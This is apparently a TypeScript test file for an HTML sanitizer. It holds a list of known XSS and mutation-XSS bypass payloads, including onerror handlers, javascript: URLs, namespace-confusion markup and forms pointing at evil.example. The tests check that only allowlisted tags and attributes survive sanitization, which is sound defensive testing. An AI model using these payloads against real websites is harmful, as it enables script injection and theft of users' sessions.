import { expect, test } from 'bun:test';
import { sanitizeHtml } from './sanitize-html.ts';

/** Known bypasses of sanitizers, including mutation XSS. */
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="position:fixed" target=_self>x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "x"</style>',
  '<form action="https://evil.example"><input name=password><button formaction=x>ok</button></form>',
  '<p id="__proto__" name="constructor" class="modal" style="background:url(https://evil.example)">x</p>',
  '<video><source onerror=alert(1)></video><audio src onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  `${'<div>'.repeat(2_000)}<img src=x onerror=alert(1)>`,
  '<p <img src=x onerror=alert(1)>',
  '<a href="https://a.example/"><b>unclosed <i>tags',
  '\0<\0script>alert(1)</script>',
];

const tags =
  /^(p|br|hr|div|span|blockquote|pre|code|b|strong|i|em|u|s|small|sub|sup|h[1-4]|ul|ol|li|a|table|thead|tbody|tr|t[hd])$/;
const attributes: Record<string, RegExp> = {
  href: /^(https?:|mailto:|tel:|[^:]*$)/,
  title: /./,
  rel: /^noopener noreferrer nofollow$/,
  colspan: /./,
  rowspan: /./,
};

/** The elements, attributes and comments that are not allowed. */
function findForbidden(html: string): string[] {
  const found: string[] = [];
  new HTMLRewriter()
    .on('*', {
      element(element) {
        if (!tags.test(element.tagName)) found.push(element.tagName);
        for (const [name, value] of element.attributes) {
          if (!attributes[name]?.test(value)) found.push(`${element.tagName} ${name}=${value}`);
        }
      },
      comments: (comment) => void found.push(`<!--${comment.text}`),
    })
    .transform(html);
  return found;
}

const titled = attacks.map((attack) => [attack.slice(0, 60), attack] as const);

test.each(titled)('sanitizeHtml removes everything unsafe from %s', (_title, attack) => {
  const clean = sanitizeHtml(attack);
  expect(findForbidden(clean)).toEqual([]);
  // Parsing it again gives the same: nothing is hidden for the next parser.
  expect(sanitizeHtml(clean)).toBe(clean);
});

test('sanitizeHtml preserves formatted text and links', () => {
  const html =
    '<p>Hello <b>Ann</b>,<br />see <a href="https://a.example/?a=1&amp;b=2">this</a></p>';
  expect(sanitizeHtml(html)).toBe(
    html.replace('">this', '" rel="noopener noreferrer nofollow">this'),
  );
});
